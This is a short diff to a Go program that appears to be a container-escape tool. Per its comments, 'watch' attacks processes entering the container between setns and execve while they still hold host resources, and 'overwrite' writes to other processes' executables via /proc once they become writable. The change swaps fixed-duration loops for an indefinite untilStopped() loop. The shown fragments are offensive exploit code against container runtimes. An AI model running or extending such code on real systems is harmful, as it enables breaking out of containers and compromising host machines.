@@ -6,7 +6,6 @@ import (
 	"path/filepath"
 	"strconv"
 	"strings"
-	"time"
 
 	"golang.org/x/sys/unix"
 )
@@ -54,10 +53,10 @@ func leak(host string, talk bool) {
 }
 
 // watch attacks processes that enter the container: between setns and execve they still hold the host's things.
-func watch(d time.Duration, host string) {
+func watch(host string) {
 	seen := map[int]bool{os.Getpid(): true, 1: true}
 	entered, readable := 0, 0
-	for end := time.Now().Add(d); time.Now().Before(end); {
+	for range untilStopped() {
 		dirs, _ := os.ReadDir("/proc")
 		for _, dir := range dirs {
 			pid, err := strconv.Atoi(dir.Name())
@@ -102,14 +101,14 @@ func watch(d time.Duration, host string) {
 }
 
 // overwrite opens the executables of processes that are not ours and writes to them once they can be written.
-func overwrite(d time.Duration) {
+func overwrite() {
 	own, err := os.Stat("/proc/self/exe")
 	if err != nil {
 		success("cannot see my own program: %v", err)
 		return
 	}
 	seen, held := 0, map[string]int{}
-	for end := time.Now().Add(d); time.Now().Before(end); {
+	for range untilStopped() {
 		exes, _ := filepath.Glob("/proc/[0-9]*/exe")
 		for _, exe := range exes {
 			name, err := os.Readlink(exe)
